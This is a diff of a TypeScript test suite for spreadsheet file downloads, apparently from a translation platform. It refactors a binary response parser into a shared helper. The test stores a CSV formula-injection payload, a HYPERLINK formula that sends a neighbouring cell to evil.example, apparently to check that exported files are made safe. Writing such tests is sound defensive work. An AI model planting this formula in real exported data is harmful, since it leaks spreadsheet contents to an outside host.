@@ -1,19 +1,13 @@
 import JSZip from 'jszip';
 import { parse } from 'csv-parse/sync';
-import type { Response } from 'supertest';
 import { createUser } from '../factories/user.factory';
 import { createGitComponent, useGitTestEnv } from '../support/git-component';
+import { binaryBody } from '../support/binary-body';
 
 /** A target a spreadsheet would run: it sends the cell next to it to another site when the file is opened. */
 const FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"Click")';
 const STORED_PO = 'msgid ""\nmsgstr ""\n"Language: cs\\n"\n"Content-Type: text/plain; charset=UTF-8\\n"\n\nmsgid "Hello"\nmsgstr ""\n\nmsgid "%d files"\nmsgstr ""\n';
 const STORED_CSV = '"source","target"\n"Hello",""\n"%d files",""\n';
-
-function binary(res: Response, callback: (error: Error | null, body: Buffer) => void): void {
-  const chunks: Buffer[] = [];
-  res.on('data', (chunk: Buffer) => chunks.push(chunk));
-  res.on('end', () => callback(null, Buffer.concat(chunks)));
-}
 
 /** The CSV's records by source: their source and target cells as written. */
 function rows(csv: string): Record<string, string>[] {
@@ -33,7 +27,7 @@ describe('spreadsheet downloads', () => {
     const hello = units.find((unit) => unit.source[0] === 'Hello')!;
     await t.http().patch(`/api/units/${hello.id}/`).set('Authorization', admin.auth).send({ target: [FORMULA], state: 20 }).expect(200);
     const download = async (format: string) =>
-      (await t.http().get(`${translation}file/?format=${format}`).set('Authorization', admin.auth).buffer(true).parse(binary).expect(200)).body as Buffer;
+      (await t.http().get(`${translation}file/?format=${format}`).set('Authorization', admin.auth).buffer(true).parse(binaryBody).expect(200)).body as Buffer;
     return { project, translation, download };
   }
 
